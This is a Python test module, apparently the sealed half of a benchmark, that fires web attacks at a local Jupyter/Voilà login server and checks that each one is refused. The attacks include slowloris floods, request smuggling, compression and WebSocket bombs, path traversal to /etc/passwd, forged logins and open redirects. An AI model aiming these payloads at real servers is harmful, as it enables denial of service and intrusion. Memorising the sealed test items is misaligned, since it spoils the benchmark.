"""The sealed half: other ideas than the open one's. It is run once, to measure; do not read, print or score it before."""

from __future__ import annotations

import asyncio
import base64
import re
import statistics
import time
import zlib
from functools import partial

from benchmarks.first_contact.web_attacks.client import (
    AWAY,
    REFUSED,
    SILENT,
    Answer,
    Attack,
    Client,
    Expectation,
    Observation,
    cookie_header,
    frame,
    kernel_message,
    register,
    request,
    send_once,
    trickle,
    wait_for_message,
)

ATTACKS: list[Attack] = []
HONEST_CLIENTS: list[Attack] = []
EXPRESSIONS = (
    "indexedDB.databases().then(rows => JSON.stringify(rows))",
    "caches.keys().then(names => JSON.stringify(names))",
    "window.name",
    "JSON.stringify(performance.getEntries().map(entry => entry.name))",
    "navigator.serviceWorker ? navigator.serviceWorker.getRegistrations().then(rows => String(rows.length)) : '0'",
    "JSON.stringify([...document.querySelectorAll('a[href], form[action], iframe[src]')].map(e => e.href || e.action || e.src))",
)
attack = partial(register, ATTACKS)
honest = partial(register, HONEST_CLIENTS, visit_after=None)
POST = b"POST {login} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
GET = b"GET {login} HTTP/1.1\r\nHost: {host}\r\n"


def add_request(name, family, description, *requests, statuses=REFUSED, mark=b"", **expected):
    """Add an attack that sends requests once each."""
    ATTACKS.append(
        Attack(name, family, description, send_once(*requests), Expectation(statuses=statuses, **expected), mark)
    )


@attack(
    "slow headers",
    "a whole header line every four seconds, on 300 connections: always some progress",
    Expectation(close_within=90),
    mark=rb"X-Line-1: ",
)
async def header_lines_without_end(client: Client) -> Observation:
    """Send lines for 80 seconds."""
    observation, connections = Observation(), await client.connect_many(client.many(300))

    async def crawl(connection):
        await connection.send(
            GET.replace(b"{login}", client.layout.login.encode()).replace(b"{host}", client.host.encode())
        )
        await trickle(connection, [b"X-Line-%d: y\r\n" % n for n in range(20)], partial(client.pause, 4))
        observation.seconds_to_close.append(await connection.wait_closed(0.5))
        connection.close()

    await asyncio.gather(*map(crawl, connections))
    return observation


@attack(
    "slow reading",
    "300 clients ask 40 times each and read hardly anything",
    Expectation(memory_mb=200),
    mark=rb"X-Reader: slow",
    visit_after=8,
)
async def readers_that_do_not_read(client: Client) -> Observation:
    """Keep small windows full for 30 seconds."""
    observation, connections = Observation(), []
    for _ in range(client.many(300)):
        try:
            connections.append(await client.connect(window=4096))
        except (OSError, TimeoutError):
            break
    for connection in connections:
        connection.writer.transport.pause_reading()
        connection.writer.write(request("GET", client.layout.login, client.headers(("X-Reader", "slow"))) * 40)
    await client.pause(30)
    for connection in connections:
        connection.reset()
    observation.figures["connections"] = len(connections)
    return observation


@attack(
    "slow posts",
    "1,000 uploads to many paths from twenty addresses, with invented cookies, each 30 MB as multipart",
    Expectation(memory_mb=200),
    mark=rb"Content-Length: 30000000\r\n",
    visit_after=12,
)
async def thousand_uploads_to_many_paths(client: Client) -> Observation:
    """Send 64 kB and then a byte every five seconds."""
    observation = Observation()
    connections = await client.connect_many(client.many(1000), [f"127.0.2.{n}" for n in range(1, 21)])
    paths = (
        client.layout.login,
        "/",
        "/api/contents/x",
        "/static/x",
        "/nothing",
        client.layout.sign_out,
        "/api/kernels",
        client.layout.health,
    )

    async def crawl(number, connection):
        rows = (
            ("Content-Length", "30000000"),
            ("Content-Type", "multipart/form-data; boundary=q"),
            ("Cookie", f"session={number}; username-127=x"),
        )
        await connection.send(request(("POST", "PUT")[number % 2], paths[number % len(paths)], client.headers(*rows)))
        if await connection.send(b"--q\r\n\r\n" + b"x" * client.large(65536), timeout=30):
            await trickle(connection, [b"x"] * 6, partial(client.pause, 5))
        connection.close()

    await asyncio.gather(*(crawl(*row) for row in enumerate(connections)))
    observation.figures["connections"] = len(connections)
    return observation


@attack(
    "endless chunks",
    "chunk extensions and trailers without end",
    Expectation(at_most={"megabytes": 32}, memory_mb=200),
    mark=rb"1;x=",
)
async def endless_chunk_extension(client: Client) -> Observation:
    """Send one chunk's line, and on another connection the trailers, until refused."""
    observation, sent = Observation(), 0
    for start, part in ((b"1;x=", b"e" * 65536), (b"0\r\n", b"X-Trailer: " + b"t" * 1000 + b"\r\n")):
        connection = await client.connect()
        await connection.send(
            request("POST", client.layout.login, client.headers(("Transfer-Encoding", "chunked"))) + start
        )
        total = 0
        while total < client.large(128 << 20) and await connection.send(part):
            total += len(part)
            await asyncio.sleep(0)
        sent = max(sent, total)
        connection.close()
    observation.figures["megabytes"] = sent / 2**20
    return observation


CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
add_request(
    "chunk_sizes",
    "endless chunks",
    "chunk sizes that are too large, negative or no number",
    *[
        CHUNKED + size + b"\r\ncode=x\r\n0\r\n\r\n"
        for size in (b"FFFFFFFFFFFFFFFF", b"-5", b"0x6", b"7fffffffffffffff0", b"six", b"")
    ],
    statuses=(*REFUSED, SILENT),
    mark=rb"FFFFFFFFFFFFFFFF",
)
add_request(
    "length_without_body",
    "declared length",
    "a length of 9 exabytes, and lengths at pages that take none",
    *[
        b"%s HTTP/1.1\r\nHost: {host}\r\nContent-Length: 9223372036854775808\r\n\r\n" % line
        for line in (b"POST {login}", b"GET /nothing", b"PUT /static/x", b"DELETE /api/kernels/1")
    ],
    mark=rb"9223372036854775808",
)
add_request(
    "odd_lengths",
    "smuggling",
    "lengths that programs read differently",
    *[
        POST + b"Content-Length: " + n + b"\r\n\r\ncode="
        for n in (b"+5", b"0x5", b"5,6", b"5 5", b"5e0", b"\xef\xbc\x95", b"1_0", b"")
    ],
    mark=rb"Length: 0x5",
)
HIDDEN = b"0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: {host}\r\n\r\n"


@attack(
    "smuggling",
    "transfer encodings that proxy and server read differently",
    Expectation(statuses=REFUSED, facts={"most answers": 1}),
    mark=rb"Transfer-Encoding: xchunked",
)
async def disguised_chunks(client: Client) -> Observation:
    """Hide a second request behind each."""
    observation, most = Observation(), 0
    rows = (
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding:\x0bchunked",
        "X: y\nTransfer-Encoding: chunked",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    )
    hidden = HIDDEN.replace(b"{host}", client.host.encode())
    for row in rows:
        connection = await client.connect()
        head = f"POST {client.layout.login} HTTP/1.1\r\nHost: {client.host}\r\nContent-Length: {len(hidden)}\r\n{row}\r\n\r\n"
        await connection.send(head.encode() + hidden)
        observation.add(await connection.read_answer(5))
        most = max(most, 1 + ((await connection.read_answer(1)).status > 0))
        connection.close()
    observation.facts["most answers"] = most
    return observation


add_request(
    "one_huge_header",
    "header bombs",
    "one header of a megabyte, and a folded one",
    GET + b"X-Huge: " + b"h" * 2**20 + b"\r\n\r\n",
    GET + b"X-Fold: a\r\n" + b" b\r\n" * 100_000 + b"\r\n",
    mark=rb"X-Huge: h{1000}",
)
add_request(
    "four_thousand_cookies",
    "header bombs",
    "a Cookie header of 4,000 names that look like the session's",
    GET + b"Cookie: " + b"; ".join(b"_xsrf%d=2|a|b|c" % n for n in range(4000)) + b"\r\n\r\n",
    statuses=(*REFUSED, 200),
    mark=rb"_xsrf3999=",
)
add_request(
    "many_parameters",
    "long URLs",
    "20,000 parameters in a query, and a fragment of escapes",
    GET.replace(b"{login}", b"{login}?" + b"&".join(b"next=%d" % n for n in range(20_000))) + b"\r\n",
    GET.replace(b"{login}", b"/" + b"%25" * 20_000) + b"\r\n",
    statuses=(*REFUSED, 302),
    mark=rb"next=19999",
)
LAYERS = zlib.compress(zlib.compress(b"code=" + b"A" * 2**26))
add_request(
    "layered_compression",
    "compressed bodies",
    "a deflated body in two layers, and encodings that nobody has",
    *[
        POST + b"Content-Encoding: %s\r\nContent-Length: %d\r\n\r\n" % (e, len(LAYERS)) + LAYERS
        for e in (b"deflate", b"deflate, deflate", b"br", b"zstd")
    ],
    memory_mb=200,
    mark=rb"Content-Encoding: deflate, deflate",
)
BOUNDARY = b"b" * 60_000
NESTED = (
    b"--"
    + BOUNDARY
    + b'\r\nContent-Disposition: form-data; name="code"; filename="'
    + b"f" * 500_000
    + b'"\r\n\r\nx\r\n--'
    + BOUNDARY
    + b"--"
)
add_request(
    "huge_boundary",
    "multipart bombs",
    "a boundary of 60 kB and a file's name of half a megabyte",
    b"POST {login} HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary="
    + BOUNDARY
    + b"\r\nContent-Length: %d\r\n\r\n" % len(NESTED)
    + NESTED,
    mark=rb"boundary=b{1000}",
)


@attack(
    "connection churn",
    "5,000 connections are opened and reset, some in the middle of a request",
    Expectation(memory_mb=200),
    mark=rb"GET /lo(?!g)",
    visit_after=4,
)
async def open_and_reset(client: Client) -> Observation:
    """Reset each connection at once; the login page must still come afterwards."""
    observation = Observation()
    for number in range(client.many(5000)):
        try:
            connection = await client.connect(f"127.0.3.{number % 200 + 1}")
        except (OSError, TimeoutError):
            continue
        if number % 3 == 0:
            await connection.send(b"GET /lo")
            await asyncio.sleep(0.001)
        connection.reset()
    observation.statuses.append((await client.get(client.layout.login)).status)
    return observation


@attack("idle connections", "1,500 connections never send a byte", Expectation(memory_mb=200), visit_after=8)
async def silent_connections(client: Client) -> Observation:
    """Stay silent for 40 seconds."""
    observation, connections = Observation(), await client.connect_many(client.many(1500))
    await client.pause(40)
    for connection in connections:
        connection.close()
    observation.figures["connections"] = len(connections)
    return observation


@attack(
    "half-closed connections",
    "clients close their direction in the middle of a declared body",
    Expectation(close_within=60),
    mark=rb"Content-Length: 5000\r\n",
)
async def half_closed_in_the_body(client: Client) -> Observation:
    """Send half of the body, close for writing, and wait."""
    observation, connections = Observation(), await client.connect_many(client.many(200))

    async def ask(connection):
        await connection.send(
            request("POST", client.layout.login, client.headers(("Content-Length", "5000"))) + b"c" * 2500
        )
        connection.close_writing()
        observation.seconds_to_close.append(await connection.wait_closed(60 * client.pace + 2))
        connection.close()

    await asyncio.gather(*map(ask, connections))
    return observation


@attack(
    "pipelined requests",
    "an upgrade with frames and a request behind it, before any answer",
    Expectation(statuses=AWAY),
    mark=rb"Upgrade: websocket",
)
async def upgrade_with_requests_behind(client: Client) -> Observation:
    """Hope that what follows a refused upgrade is taken as a WebSocket's."""
    observation = Observation()
    rows = (
        ("Upgrade", "websocket"),
        ("Connection", "Upgrade"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA=="),
    )
    target = client.layout.channels.format(kernel="00000000-0000-4000-8000-000000000000")
    data = (
        request("GET", target, client.headers(*rows))
        + frame(1, b"{}") * 200
        + request("GET", "/api/kernels", client.headers())
    )
    observation.add(await client.send_raw(data))
    return observation


H2C = b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
add_request(
    "other_upgrades",
    "upgrades",
    "HTTP/2, TLS and an invented protocol are asked for",
    GET + H2C,
    GET + b"Upgrade: TLS/1.2\r\nConnection: Upgrade\r\n\r\n",
    GET + b"Upgrade: foo\r\nConnection: Upgrade\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    statuses=(*REFUSED, 200, 426, SILENT),
    mark=rb"Upgrade: h2c",
)


@attack(
    "WebSocket before login",
    "WebSockets at other doors, with invented cookies, old versions or no key",
    Expectation(statuses=(*AWAY, 426)),
    mark=rb"Sec-WebSocket-Version: 8",
)
async def websockets_at_other_doors(client: Client) -> Observation:
    """Try each door."""
    observation = Observation()
    for target in ("/terminals/websocket/1", "/api/events/subscribe", "/voila/ws", "/lsp/ws/x", client.layout.screen):
        answer, connection = await client.open_websocket(
            target, cookies={"session": "2|1:0|10:1700000000", "username": "dr_lee"}
        )
        observation.add(answer)
        connection.close()
    target = client.layout.channels.format(kernel="' OR 1=1")
    for more, without in (((("Sec-WebSocket-Version", "8"),), ()), ((), ("Sec-WebSocket-Key",)), ((), ("Origin",))):
        answer, connection = await client.open_websocket(target.replace(" ", "%20"), *more, without=without)
        observation.add(answer)
        connection.close()
    return observation


async def _flood_frames(client: Client, frames: list[bytes], limit: int) -> Observation:
    """Send frames in turn on a logged-in WebSocket until the server closes, at most so many bytes."""
    observation = Observation()
    _, _, answer, connection = await client.open_channels()
    observation.facts["opened"], sent = answer.status == 101, 0
    while sent < client.large(limit):
        data = frames[min(sent > 0, len(frames) - 1)]
        if not await connection.send(data, timeout=5):
            break
        sent += len(data)
        await asyncio.sleep(0)
    observation.figures["megabytes"] = sent / 2**20
    connection.close()
    return observation


@attack(
    "WebSocket frames",
    "a message in fragments that never ends",
    Expectation(facts={"opened": True}, at_most={"megabytes": 64}, memory_mb=200),
    mark=rb"\x01\xff\0\0\0\0\0\x01\0\0",
)
async def endless_fragments(client: Client) -> Observation:
    """Send continuation frames of 64 kB up to 300 MB."""
    return await _flood_frames(
        client, [frame(1, b"{" * 65536, fin=False), frame(0, b"[" * 65536, fin=False)], 300 << 20
    )


@attack(
    "WebSocket frames",
    "a hundred thousand pings whose answers nobody reads",
    Expectation(facts={"opened": True}, memory_mb=200),
    mark=rb"\x89\xfd",
)
async def flood_of_pings(client: Client) -> Observation:
    """Send pings of 125 bytes."""
    return await _flood_frames(client, [frame(9, b"p" * 125) * 100], 13 << 20)


@attack(
    "WebSocket frames",
    "frames that the protocol forbids",
    Expectation(facts={"opened": True, "survived": 0}),
    mark=rb"\xc1\x82",
)
async def forbidden_frames(client: Client) -> Observation:
    """Send reserved bits, unknown opcodes, a long ping, a lone continuation; each must close."""
    observation, survived = Observation(), 0
    session, kernel, answer, connection = await client.open_channels()
    observation.facts["opened"] = answer.status == 101
    connection.close()
    target = client.layout.channels.format(kernel=kernel)
    for data in (
        frame(1, b"{}", reserved=0x40),
        frame(3, b"x"),
        frame(9, b"p" * 200),
        frame(0, b"x"),
        frame(1, b"\xff\xfe"),
    ):
        _, connection = await client.open_websocket(target, cookies=session.cookies)
        await connection.send(data)
        survived += await connection.wait_closed(6 * client.pace + 1) == float("inf")
        connection.close()
    observation.facts["survived"] = survived
    return observation


@attack(
    "WebSocket frames",
    "a compressed message that unfolds to a gigabyte",
    Expectation(facts={"opened": True}, memory_mb=200),
    mark=rb"permessage-deflate",
)
async def compressed_message(client: Client) -> Observation:
    """Offer compression and send the bomb whether or not it was accepted."""
    observation = Observation()
    _, _, answer, connection = await client.open_channels(("Sec-WebSocket-Extensions", "permessage-deflate"))
    observation.facts["opened"] = answer.status == 101
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(packer.compress(b" " * 2**20) for _ in range(client.large(1024)))
    await connection.send(frame(1, data + packer.flush(zlib.Z_SYNC_FLUSH)[:-4], reserved=0x40))
    await client.pause(10)
    connection.close()
    return observation


@attack(
    "WebSocket messages",
    "a reviewer's own program asks the kernel to run code",
    Expectation(facts={"opened": True, "ran": False}),
    mark=rb"execute_request",
)
async def code_over_the_websocket(client: Client) -> Observation:
    """Ask the kernel for a product that only a run would give."""
    observation = Observation()
    _, _, answer, connection = await client.open_channels()
    observation.facts["opened"] = answer.status == 101
    content = {
        "code": "print(7919 * 104729)",
        "silent": False,
        "store_history": False,
        "user_expressions": {"p": "7919 * 104729"},
        "allow_stdin": False,
    }
    await connection.send(frame(2, kernel_message("execute_request", content)))
    observation.facts["ran"] = await wait_for_message(connection, b"829348951", 15 * client.pace + 1)
    connection.close()
    return observation


@attack(
    "guesses",
    "after 1,000 wrong codes, fifty at once, the right one from the same address",
    Expectation(facts={"right code": True}),
    mark=rb"code=",
    visit_from="127.0.0.77",
    visit_after=3,
)
async def right_after_a_thousand_wrong(client: Client) -> Observation:
    """Guess in parallel, then log in."""
    observation, number = Observation(), client.many(1000)
    rows = [client.guess(map(client.wrong_code, range(n, number, 50))) for n in range(min(50, number))]
    await asyncio.gather(*rows)
    observation.facts["right code"] = (await client.log_in(client.code)).is_logged_in
    return observation


@attack(
    "guesses",
    "the code's owner is locked out by somebody who sends half of it rightly, for two minutes",
    Expectation(facts={"right code": 5}),
    mark=rb"code=",
    visit_after=5,
)
async def owner_among_steady_guesses(client: Client) -> Observation:
    """Log in every ten seconds while guesses come in."""
    observation, stop = Observation(), asyncio.Event()

    async def guess_on():
        number = 0
        while not stop.is_set():
            await client.guess([client.wrong_code(number), client.code[:10] + "xxxx"], source="127.0.0.44")
            number += 1
            await client.pause(0.05)

    task = asyncio.ensure_future(guess_on())
    right = 0
    for _ in range(5):
        await client.pause(10)
        right += (await client.log_in(client.code)).is_logged_in
    stop.set()
    await task
    observation.facts["right code"] = right
    return observation


@attack(
    "odd codes",
    "a code of a megabyte, look-alike letters, and a code sent as a list",
    Expectation(facts={"somebody logged in": False}, statuses=(*REFUSED, 200)),
    mark=rb"%D0%B0|%D0%B5|%CE%BF",
)
async def look_alike_codes(client: Client) -> Observation:
    """No answer may be an error of the server."""
    observation = Observation()
    letters = str.maketrans("abceopxyt", "аЬсеорхут")
    alike = client.code.translate(letters)
    alike = "а" + client.code[1:] if alike == client.code else alike
    answers = await client.guess(
        [alike, "c" * 2**20, "\u202e" + client.code[::-1], b"\xff\xfe\xfa", "", "{}", "' OR ''='"]
    )
    observation.add(*answers)
    observation.facts["somebody logged in"] = any(answer.status in {302, 303} for answer in answers)
    return observation


@attack(
    "odd codes",
    "the right code in the address, in a header, and twice in the form",
    Expectation(facts={"logged in": 0}),
    mark=rb"GET /login\?code=",
)
async def code_in_the_wrong_place(client: Client) -> Observation:
    """An address is kept in logs and histories: a code there must not work."""
    observation, code = Observation(), client.code
    answers = [
        await client.get(f"{client.layout.login}?code={code}"),
        await client.get(f"/?code={code}&token={code}"),
        await client.get("/", ("Authorization", f"token {code}")),
        await client.get("/", ("Authorization", "Basic " + base64.b64encode(f"dr_lee:{code}".encode()).decode())),
    ]
    reached = [client.read_login(answer, {}).is_logged_in and "_xsrf" not in answer.cookies for answer in answers]
    opened = [answer.status == 200 and b'type="password"' not in answer.body for answer in answers]
    observation.facts["logged in"] = sum(reached) + sum(opened)
    return observation


@attack(
    "timing",
    "is the code of somebody who was removed answered otherwise than one that never was?",
    Expectation(at_most={"milliseconds of difference": 5}, facts={"same words": True}),
    mark=rb"code=",
    visit_after=None,
)
async def timing_of_a_removed_code(client: Client) -> Observation:
    """Compare medians and the answers' words, without digits and tokens."""
    observation, rows = Observation(), ([], [])
    old = await asyncio.to_thread(client.control.add_reviewer, "dr_gone")
    await asyncio.to_thread(client.control.remove_reviewer, "dr_gone")
    words = [set(), set()]
    for number in range(client.many(12)):
        for place, code in enumerate((old, client.wrong_code(number))):
            answer = (await client.guess([code], source=f"127.0.4.{2 * number + place + 1}"))[0]
            rows[place].append(answer.seconds)
            words[place].add((answer.status, re.sub(rb'value="[^"]*"|[0-9a-f|]{8,}|\d+', b"", answer.body)))
    observation.figures["milliseconds of difference"] = (
        abs(statistics.median(rows[0]) - statistics.median(rows[1])) * 1000
    )
    observation.facts["same words"] = words[0] == words[1]
    return observation


@attack(
    "login forgery",
    "forms of other sites with a plain-text body, JSON, a token of somebody else, or only a Referer",
    Expectation(facts={"somebody logged in": 0}),
    mark=rb"text/plain",
)
async def forms_of_other_kinds(client: Client) -> Observation:
    """Send the right code in each; the last has the token of another browser."""
    observation, code = Observation(), client.code
    _, form, cookies = await client.open_login()
    token, count = form.fields.get("_xsrf", ""), 0
    plain = (("Content-Type", "text/plain"), ("Sec-Fetch-Site", "cross-site"))
    rows = [
        (plain, f"code={code}"),
        ((("Content-Type", "application/json"),), f'{{"code": "{code}", "_xsrf": "{token}"}}'),
        ((("Content-Type", "application/x-www-form-urlencoded"), ("Referer", "https://evil.example/")), f"code={code}"),
        (
            (("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", "_xsrf=another")),
            f"code={code}&_xsrf={token}",
        ),
        ((("Content-Type", "application/x-www-form-urlencoded"),), f"code={code}&_xsrf={token}"),
    ]
    for more, body in rows:
        answer = await client.send_raw(request("POST", client.layout.login, client.headers(*more), body.encode()))
        count += client.read_login(answer, cookies).is_logged_in
    observation.facts["somebody logged in"] = count
    return observation


@attack(
    "session fixation",
    "a neighbour's site has set a second cookie of the session's name",
    Expectation(facts={"attacker's": False}),
    mark=rb"=forged; ",
)
async def two_cookies_of_one_name(client: Client) -> Observation:
    """Send the forged value first and last; whoever opens must be the reviewer, and the forged one alone opens nothing."""
    observation, session = Observation(), await client.log_in(client.code)
    names = [name for name in session.answer.cookies if name != "_xsrf"]
    forged = "; ".join(f"{name}=forged" for name in names)
    right = cookie_header(session.cookies)[1]
    statuses = [await client.get(client.layout.health, ("Cookie", f"{forged}; {right}"))]
    statuses.append(await client.get(client.layout.login, ("Cookie", f"{right}; {forged}")))
    observation.add(*statuses)
    observation.facts["attacker's"] = await client.may_enter(dict.fromkeys(names, "forged"))
    return observation


@attack(
    "after sign-out",
    "the screen's WebSocket and kernel are used after sign-out in another tab",
    Expectation(facts={"opened": True, "answers": False, "opens again": False}),
    mark=rb"kernel_info_request",
)
async def websocket_after_sign_out(client: Client) -> Observation:
    """Sign out, wait as for a removed reviewer, then speak to the kernel."""
    observation = Observation()
    session, kernel, answer, connection = await client.open_channels()
    observation.facts["opened"] = answer.status == 101
    await client.sign_out(session.cookies)
    await client.pause(client.layout.removal_seconds)
    await connection.send(frame(2, kernel_message("kernel_info_request", {})))
    observation.facts["answers"] = await wait_for_message(connection, b"kernel_info_reply", 8 * client.pace + 1)
    connection.close()
    again, connection = await client.open_websocket(
        client.layout.channels.format(kernel=kernel), cookies=session.cookies
    )
    observation.facts["opens again"] = again.status == 101
    connection.close()
    return observation


@attack(
    "after sign-out",
    "a picture of another site signs a reviewer out",
    Expectation(facts={"still in": True}),
    mark=rb"Sec-Fetch-Site: cross-site",
)
async def forced_sign_out(client: Client) -> Observation:
    """Ask for the sign-out without the page's token."""
    observation, session = Observation(), await client.log_in(client.code)
    await client.get(client.layout.sign_out, ("Sec-Fetch-Site", "cross-site"), cookies=session.cookies)
    await client.send_raw(
        request(
            "POST",
            client.layout.sign_out,
            client.headers(("Origin", "https://evil.example"), cookies=session.cookies),
            b"",
        )
    )
    observation.facts["still in"] = await client.may_enter(session.cookies)
    return observation


@attack(
    "replaced codes",
    "a reviewer's lost code was replaced; its finder is still logged in",
    Expectation(facts={"before": True, "old login": False, "old code": False, "new code": True}),
    mark=rb"Cookie: ",
)
async def login_with_a_replaced_code(client: Client) -> Observation:
    """Replace the code while a session is open."""
    observation = Observation()
    old = await asyncio.to_thread(client.control.add_reviewer, "dr_lost")
    session = await client.log_in(old)
    observation.facts["before"] = await client.may_enter(session.cookies)
    new = await asyncio.to_thread(client.control.add_reviewer, "dr_lost")
    await client.pause(client.layout.removal_seconds)
    observation.facts["old login"] = await client.may_enter(session.cookies)
    observation.facts["old code"] = (await client.log_in(old)).is_logged_in
    observation.facts["new code"] = (await client.log_in(new)).is_logged_in
    return observation


@attack(
    "after a restart",
    "a reviewer is removed while the server is down; signed-out cookies come back after it",
    Expectation(facts={"removed": False, "signed out": False}),
    mark=rb"Cookie: ",
    visit_after=None,
)
async def sessions_after_a_restart(client: Client) -> Observation:
    """Nobody may come in by the restart."""
    observation = Observation()
    code = await asyncio.to_thread(client.control.add_reviewer, "dr_between")
    removed, signed_out = await client.log_in(code), await client.log_in(client.code)
    await client.sign_out(signed_out.cookies)
    await asyncio.to_thread(client.control.stop)
    await asyncio.to_thread(client.control.remove_reviewer, "dr_between")
    await asyncio.to_thread(client.control.start)
    observation.facts["removed"] = await client.may_enter(removed.cookies)
    observation.facts["signed out"] = await client.may_enter(signed_out.cookies)
    return observation


@attack(
    "cookies",
    "one reviewer's cookie opens the other's kernel; parts of two cookies are joined",
    Expectation(facts={"kernel": True, "joined": 0}, statuses=AWAY),
    mark=rb"/channels",
)
async def other_reviewers_cookies(client: Client) -> Observation:
    """Ask for the other's WebSocket, and join cookies at each separator."""
    observation = Observation()
    mine, his = await client.log_in(client.code), await client.log_in(client.other_code)
    kernel = await client.open_screen(his)
    observation.facts["kernel"] = bool(kernel)
    answer, connection = await client.open_websocket(client.layout.channels.format(kernel=kernel), cookies=mine.cookies)
    observation.add(answer)
    connection.close()
    joined = 0
    for name, value in his.cookies.items():
        other = mine.cookies.get(name, "")
        for place in [m.start() for m in re.finditer(r"[|.:%-]", value)][:8]:
            if name != "_xsrf" and other and other[place:] != value[place:] and other[:place] != value[:place]:
                joined += await client.may_enter({**mine.cookies, name: other[:place] + value[place:]})
    observation.facts["joined"] = joined
    return observation


ODD_HOSTS = (
    b"GET {login} HTTP/1.1\r\n\r\n",
    b"GET {login} HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n",
    b"GET {login} HTTP/1.1\r\nHost: 127.0.0.1.evil.example:{port}\r\n\r\n",
    b"GET {login} HTTP/1.1\r\nHost: {host}@evil.example\r\n\r\n",
    b"GET {login} HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
    b"GET http://evil.example{login} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"GET {login} HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: {host}\r\n\r\n",
)
add_request(
    "odd_hosts",
    "Host header",
    "no host, two hosts, a host that begins like ours",
    *ODD_HOSTS,
    mark=rb"Host: 127\.0\.0\.1\.evil\.example",
)


@attack(
    "forwarded names",
    "headers in which a proxy would name the reviewer, while no proxy is set",
    Expectation(facts={"entered": 0}),
    mark=rb"X-Forwarded-User: dr_lee",
)
async def names_in_headers(client: Client) -> Observation:
    """Claim to be a reviewer, or to come from the proxy."""
    observation, entered = Observation(), 0
    for name in ("X-Forwarded-User", "Remote-User", "X-Remote-User", "X-WebAuth-User", "X-Auth-Request-User"):
        for reviewer in client.codes:
            answer = await client.get(
                "/", (name, reviewer), ("X-Forwarded-For", "127.0.0.9"), ("X-Real-IP", "127.0.0.9"), source="127.0.0.9"
            )
            entered += answer.status == 200 and b'type="password"' not in answer.body
    observation.facts["entered"] = entered
    return observation


PATHS = (
    "voila/render/..%2f..%2fetc%2fpasswd",
    "voila/files/reviewers.json",
    "voila/render/sme_review.ipynb",
    "%252e%252e/%252e%252e/etc/passwd",
    "static/..%c0%af..%c0%afetc/passwd",
    "static/%00/etc/passwd",
    "voila/templates/base/../../../../etc/passwd",
    "voila/static/..%252f..%252fetc/passwd",
    "files/evalkit.sqlite",
    "custom/../../etc/passwd",
    "nbextensions/..%2f..%2fetc%2fpasswd",
)


@attack(
    "path traversal",
    "files by Voilà's own paths, with double and overlong escapes",
    Expectation(facts={"leaked": False}),
    mark=rb"GET /static/\.\.%c0%af",
)
async def traversal_in_voila(client: Client) -> Observation:
    """Ask without a login and with it; a page may be shown, a file of the machine may not."""
    observation, session = Observation(), await client.log_in(client.code)
    for cookies in ({}, session.cookies):
        for path in PATHS:
            answer = await client.get("/" + path, cookies=cookies)
            observation.answers.append(answer.bytes)
    words = (b"root:", b"SQLite format", b'"sha256"', b'"cells"')
    observation.facts["leaked"] = any(word in answer for answer in observation.answers for word in words)
    return observation


@attack(
    "Jupyter's doors",
    "a logged-in reviewer asks for what the screen does not need",
    Expectation(facts={"done": 0}),
    mark=rb"POST /api/terminals",
)
async def doors_after_login(client: Client) -> Observation:
    """Start a terminal and a kernel, write a file, run a notebook of one's own, stop the server."""
    observation, session, done = Observation(), await client.log_in(client.code), 0
    token = session.cookies.get("_xsrf", "")
    rows = (
        ("POST", "/api/terminals", b"{}"),
        ("POST", "/api/kernels", b'{"name": "python3"}'),
        ("PUT", "/api/contents/x.txt", b'{"type": "file", "format": "text", "content": "x"}'),
        ("GET", "/api/contents?content=1", None),
        ("POST", "/api/sessions", b"{}"),
        ("GET", "/nbconvert/script/sme_review.ipynb", None),
        ("GET", "/api/kernels", None),
        ("POST", "/api/shutdown", b""),
    )
    for method, target, body in rows:
        more = (("X-XSRFToken", token), ("Content-Type", "application/json"), ("Origin", f"http://{client.host}"))
        answer = await client.send_raw(request(method, target, client.headers(*more, cookies=session.cookies), body))
        done += answer.status in {200, 201, 204}
    observation.facts["done"] = done
    return observation


@attack(
    "open redirects",
    "paths that a server turns into an address of another site",
    Expectation(facts={"led away": 0}),
    mark=rb"GET //evil\.example",
)
async def paths_that_lead_away(client: Client) -> Observation:
    """Ask without a login for odd paths, and log in from there."""
    observation, led = Observation(), 0
    for path in (
        "//evil.example/",
        "//evil.example/%2f..",
        "/%09/evil.example",
        "/%5cevil.example",
        "///evil.example//",
        "/login//evil.example/",
        "/login?next=%2F%5Cevil.example&next=https://evil.example",
        "/login?next=%09//evil.example",
        "/login?next=http:%2F%2F127.0.0.1@evil.example",
    ):
        place = (await client.get(path)).header("Location")
        led += bool(re.match(r"(?:[a-z]+:)?[/\\\t]{2,}(?!127\.0\.0\.1[:/])", place))
    for value in (
        "\t//evil.example",
        "http://127.0.0.1@evil.example/",
        "/%2f/evil.example/../",
        " //evil.example",
        "///evil.example",
    ):
        place = (await client.log_in(client.code, next=value)).answer.header("Location")
        led += bool(re.match(r"\s*(?:[a-z]+:)?[/\\\t]{2,}(?!127\.0\.0\.1[:/])", place))
    observation.facts["led away"] = led
    return observation


add_request(
    "split_by_unicode",
    "header injection",
    "letters whose low byte is a line end, bare line feeds, a NUL in a header",
    GET.replace(b"{login}", b"{login}?next=/%E5%98%8A%E5%98%8DX-Injected:%20yes") + b"\r\n",
    GET + b"X-A: b\nX-Injected: yes\r\n\r\n",
    GET + b"X-B: a\0b\r\n\r\n",
    GET + b"Cookie: a=b\rX-Injected: yes\r\n\r\n",
    statuses=(*REFUSED, 200, 302),
    mark=rb"%E5%98%8A",
)


@attack(
    "Origin",
    "WebSockets of near origins: another scheme, port, a subdomain, an empty one",
    Expectation(statuses=AWAY, facts={"kernel": True}),
